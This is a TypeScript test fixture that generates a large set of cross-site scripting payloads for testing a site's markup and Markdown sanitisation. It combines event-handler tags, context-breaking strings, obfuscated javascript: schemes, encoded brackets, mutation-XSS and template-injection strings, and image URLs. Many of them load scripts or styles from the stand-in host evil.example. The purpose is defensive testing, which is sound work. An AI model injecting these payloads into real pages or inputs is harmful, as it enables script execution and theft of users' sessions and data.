import { readFileSync } from "node:fs";

/*
 * Strings that would run `xss()`, load from evil.example or leave the site if they were read as markup, an
 * address or a template instead of text. Composed of known attacks: elements that run by themselves, ends of
 * the surrounding context, and other spellings of addresses and brackets.
 */

const TAGS = [
  "img src=x",
  "svg",
  "body",
  "details open",
  "input autofocus",
  "select autofocus",
  "textarea autofocus",
  "video src=x",
  "audio src=x",
  "iframe",
  "object data=x",
  "marquee",
  "a href=# autofocus",
  "button autofocus popovertarget=x",
  "form",
  "x-y contenteditable autofocus",
  "dialog open",
  "link rel=stylesheet href=x",
];
const EVENTS = [
  "onerror",
  "onload",
  "onfocus",
  "onfocusin",
  "ontoggle",
  "onbeforetoggle",
  "onstart",
  "onanimationstart",
  "ontransitionend",
  "onpointerenter",
  "oncontentvisibilityautostatechange",
  "onscrollend",
];

/** Strings that end the context around a text. */
const ENDS = [
  "",
  '">',
  "'>",
  "`>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</noscript>",
  "</template>",
  "</option></select>",
  "-->",
  "]]>",
  "*/",
  '\\">',
  '"}</script>',
];
const MARKUP = [
  "<script>xss()</script>",
  "<img src=x onerror=xss()>",
  "<svg/onload=xss()>",
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  "<script src=//evil.example/x.js></script>",
  '" autofocus onfocus=xss() x="',
];

/** Other spellings of `javascript:` that browsers read, or once did. */
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\tscript:",
  "java\nscript:",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "&#0000106avascript:",
  "java&Tab;script:",
  "javascript&colon;",
  "%6Aavascript:",
  "\\u006aavascript:",
  "data:text/html,<script>xss()</script>",
];
const CARRIERS = [
  (url: string) => url,
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button>x</button></form>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url: string) => `<base href="${url}//">`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `[x](${url})`,
  (url: string) => `![x](${url})`,
];

/** Encodings of a bracket. */
const BRACKETS: ((markup: string) => string)[] = [
  encodeURIComponent,
  (markup) => encodeURIComponent(encodeURIComponent(markup)),
  (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (markup) => markup.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (markup) => markup.replaceAll("<", "&#60;").replaceAll(">", "&#62;"),
  (markup) => markup.replaceAll("<", "&#x3c").replaceAll(">", "&#x3e"),
  (markup) => markup.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (markup) => markup.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
  (markup) => markup.replaceAll("<", "＜").replaceAll(">", "＞"),
  (markup) => markup.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (markup) => markup.replaceAll("<", "<<").replaceAll(">", ">>"),
  (markup) => markup.replaceAll(" ", "/"),
  (markup) => markup.replaceAll(" ", "\n"),
  (markup) => markup.toUpperCase().replaceAll("XSS", "xss"),
  (markup) => markup.replaceAll("<", "<!--><"),
  (markup) => `\u202e${markup}\u2028\u2029\ufeff`,
];

/** Mutations by a second parse, templates, styles and object names. */
const ODD = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  "<svg><style><img src=x onerror=xss()></style></svg>",
  "<svg><script>xss()</script></svg>",
  "<svg><animate onbegin=xss() attributeName=x dur=1s></svg>",
  "<svg><set attributeName=href to=javascript:xss()></svg>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"></svg>',
  "<template><script>xss()</script></template>",
  "<template shadowrootmode=open><script>xss()</script></template>",
  "<select><template><img src=x onerror=xss()></template></select>",
  "<table><td background=javascript:xss()>",
  "<img src=x:x onerror=xss()//",
  '<img src="x` `<script>xss()</script>"` `>',
  "<script\n>xss()</script\n>",
  "<script type=module>xss()</script>",
  '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>',
  "<link rel=prefetch href=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import'//evil.example/x.css';</style>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<div style=background:url(//evil.example/x)>x</div>",
  "<div style=width:expression(xss())>x</div>",
  "<div style=animation-name:x onanimationstart=xss()>x</div>",
  "<form id=xss><input name=innerHTML></form>",
  "<a id=session><a id=session name=token href=//evil.example>",
  "<img name=getElementById>",
  "<portal src=//evil.example></portal>",
  "<object type=text/html data=//evil.example></object>",
  "{{constructor.constructor('xss()')()}}",
  "{{xss()}}",
  "${xss()}",
  "`${xss()}`",
  "#{xss()}",
  "<%= xss() %>",
  "{% raw %}{{xss()}}{% endraw %}",
  "[[${xss()}]]",
  "<div ng-app ng-csp>{{$eval.constructor('xss()')()}}</div>",
  "<div v-html=\"'<img src=x onerror=xss()>'\"></div>",
  '{"__html":"<img src=x onerror=xss()>"}',
  '{"$$typeof":"Symbol(react.element)","props":{"dangerouslySetInnerHTML":{"__html":"<script>xss()</script>"}}}',
  "__proto__[innerHTML]=<img src=x onerror=xss()>",
  "constructor",
  "__proto__",
  "';xss();//",
  '";xss();//',
  "\\';xss();//",
  "</script><!--<script>",
  "<!--<script>xss()//-->",
  "<![CDATA[<script>xss()</script>]]>",
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">xss()</x:script>',
  "//evil.example",
  "https://evil.example/<script>xss()</script>",
  "<https://evil.example>",
  "<javascript:xss()>",
  "[x]: javascript:xss()",
  '[x](https://evil.example "onclick=xss()")',
];

/** Attacks from OWASP and against Markdown, which the server tests also use. */
const MARKDOWN = readFileSync(
  new URL("../../crates/markup/src/tests/hostile_markup.txt", import.meta.url),
  "utf8",
)
  .trim()
  .split("\n\n");

/** Markdown contexts. */
const CONTEXTS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `> ${text}`,
  (text) => `# ${text}`,
  (text) => `**${text}**`,
  (text) => `[${text}](/x)`,
  (text) => `| a |\n| - |\n| ${text} |`,
  (text) => `x ${text} y`,
];

const runs = (scheme: string) => (scheme.startsWith("data:") ? scheme : `${scheme}xss()`);

export const XSS = [
  ...new Set([
    ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=xss()>`)),
    ...ENDS.flatMap((end) => MARKUP.map((markup) => end + markup)),
    ...CARRIERS.flatMap((carry) => SCHEMES.map((scheme) => carry(runs(scheme)))),
    ...BRACKETS.flatMap((write) => MARKUP.slice(0, 3).map(write)),
    ...ODD,
    ...MARKDOWN,
  ]),
].map((text) => text.trim());

/**
 * The same for Markdown fields. Each string is a list item, so that an open fence or HTML block ends before the
 * next one.
 */
export const XSS_MARKDOWN = [
  ...XSS,
  ...CONTEXTS.slice(1).flatMap((write) => MARKDOWN.map(write)),
].map((text) => `- ${text.replaceAll("\n", "\n  ")}`);

/** Picture addresses with attacks in them, valid or not. */
export const PICTURES = [
  "https://evil.example/x.svg",
  "https://evil.example/x.png?next=javascript:xss()",
  "https://evil.example/'onerror=xss()'.png",
  "https://evil.example/<script>xss()</script>.png",
  "https://evil.example/`onerror=xss()`.png",
  "https://evil.example/&quot;onerror=xss()&quot;.png",
  'https://evil.example/"onerror=xss()".png',
  ...SCHEMES.map(runs),
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>",
  "//evil.example/x.png",
  "https:evil.example/x.png",
  "https://user:secret@evil.example/x.png",
];

/** Joins the strings into texts of at most `room` characters; drops longer strings. */
export function packed(strings: string[], room: number): string[] {
  const texts: string[] = [];
  for (const string of strings.filter(({ length }) => length <= room)) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + string.length <= room)
      texts[texts.length - 1] = `${last}\n${string}`;
    else texts.push(string);
  }
  return texts;
}
